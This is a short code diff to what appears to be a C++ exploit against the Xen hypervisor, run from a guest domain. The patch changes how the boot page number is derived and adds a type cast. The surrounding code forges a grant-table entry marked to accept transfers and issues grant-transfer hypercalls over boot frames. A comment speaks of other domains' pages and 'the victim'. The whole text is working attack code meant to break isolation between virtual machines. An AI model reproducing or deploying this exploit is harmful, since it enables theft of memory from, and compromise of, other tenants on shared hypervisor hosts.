@@ -195,7 +195,9 @@ bool newRoot() {
   asm volatile("mov %%cr3, %0" : "=r"(root));
   return extended(MMUEXT_NEW_BASEPTR, root >> 12, 0) == 0;
 }
-constexpr xen_pfn_t kBootPage = abi::kImageBase / abi::kPageSize;
+extern "C" char __ampoule_boot_start[];
+const xen_pfn_t kBootPage =
+    reinterpret_cast<std::uint64_t>(__ampoule_boot_start) / abi::kPageSize;
 /// A boot page's frame, since nothing maps it any more, by Xen's own table of
 /// what each frame is; other domains have a page of that number, too. The table
 /// is mapped by large pages, surely up to the one that tells of the victim.
@@ -226,7 +228,7 @@ bool transfer() {
   if (self == DOMID_INVALID)
     return false;
   return anyBootFrame([self](xen_pfn_t frame) {
-    grantEntry(kForged) = {0, self, kBootPage};
+    grantEntry(kForged) = {0, self, static_cast<std::uint32_t>(kBootPage)};
     grantEntry(kForged).flags = GTF_accept_transfer;
     gnttab_transfer transfer = {frame, self, kForged, 0};
     ask(__HYPERVISOR_grant_table_op, GNTTABOP_transfer, &transfer, 1);
